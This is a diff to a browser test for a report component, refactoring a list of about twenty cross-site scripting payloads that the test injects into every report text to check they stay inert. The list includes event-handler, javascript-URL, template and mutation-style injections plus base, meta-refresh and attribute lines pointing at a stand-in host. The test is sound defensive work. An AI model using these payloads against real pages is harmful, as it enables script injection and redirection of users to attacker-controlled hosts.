@@ -1,6 +1,7 @@
 import { expect } from "@open-wc/testing";
 import type { Report } from "#contract/report.ts";
 import { FULL_REPORT } from "../../gallery/full-report.ts";
+import { findAllDeep } from "../../kit/mount-coach.ts";
 import { openReport } from "../../kit/open-report.ts";
 import { createState } from "../../kit/report-samples.ts";
 
@@ -11,32 +12,30 @@ declare global {
   }
 }
 
+const RUN = "taken(1)";
 /** Texts that do harm where anything reads them as markup, as an address or as style. */
-const toPayloads = (number: number): readonly string[] => {
-  const run = `taken(${number})`;
-  return [
-    `<img src=x onerror=${run}>`,
-    `"><script>${run}</script>`,
-    `</q></p><svg onload=${run}>`,
-    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
-    `<details open ontoggle=${run}>`,
-    `<a href="javascript:${run}">x</a>`,
-    `<style>@import "data:text/css,*{}"</style>`,
-    `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
-    `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
-    `' onfocus=${run} autofocus x='`,
-    `&lt;img src=x onerror=${run}&gt;`,
-    `\${${run}}`,
-    `{{${run}}}`,
-    `javascript:${run}`,
-    `<maka-voice-coach api="https://evil.example"></maka-voice-coach>`,
-    `<object data="javascript:${run}"></object>`,
-    `<video><source onerror=${run}></video>`,
-    `<base href="https://evil.example/">`,
-    `<meta http-equiv=refresh content="0;url=https://evil.example">`,
-    `<input onfocus=${run} autofocus>`,
-  ];
-};
+const PAYLOADS: readonly string[] = [
+  `<img src=x onerror=${RUN}>`,
+  `"><script>${RUN}</script>`,
+  `</q></p><svg onload=${RUN}>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<details open ontoggle=${RUN}>`,
+  `<a href="javascript:${RUN}">x</a>`,
+  `<style>@import "data:text/css,*{}"</style>`,
+  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
+  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
+  `' onfocus=${RUN} autofocus x='`,
+  `&lt;img src=x onerror=${RUN}&gt;`,
+  `\${${RUN}}`,
+  `{{${RUN}}}`,
+  `javascript:${RUN}`,
+  `<maka-voice-coach api="https://evil.example"></maka-voice-coach>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<base href="https://evil.example/">`,
+  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
+  `<input onfocus=${RUN} autofocus>`,
+];
 
 /** The names of code, which choose what is drawn: another one is another report, not a hostile one. */
 const CODES =
@@ -51,27 +50,19 @@ function poison(value: unknown, payload: string, key = ""): unknown {
   );
 }
 
-/** Everything below a node, through open shadow roots. */
-function allBelow(root: ParentNode): Element[] {
-  return [...root.querySelectorAll("*")].flatMap((element) => [
-    element,
-    ...(element.shadowRoot ? allBelow(element.shadowRoot) : []),
-  ]);
-}
-
 describe("MakaReport", () => {
   it("markup in every text of a report stays text", async () => {
     const ran: number[] = [];
     window.taken = (by) => void ran.push(by);
     const { report: shape, turns } = createState({ report: FULL_REPORT });
-    for (const [number, payload] of toPayloads(1).entries()) {
+    for (const [number, payload] of PAYLOADS.entries()) {
       const state = createState({
         phase: "report-ready",
         report: poison(shape, payload) as Report,
         turns: turns.map((turn) => ({ ...turn, text: payload })),
       });
       const report = await openReport(state);
-      const foreign = allBelow(report.renderRoot).filter(
+      const foreign = findAllDeep(report, "*").filter(
         (element) =>
           /^(?:script|img|iframe|object|video|base|meta|math|template|maka-voice-coach)$/.test(
             element.localName,
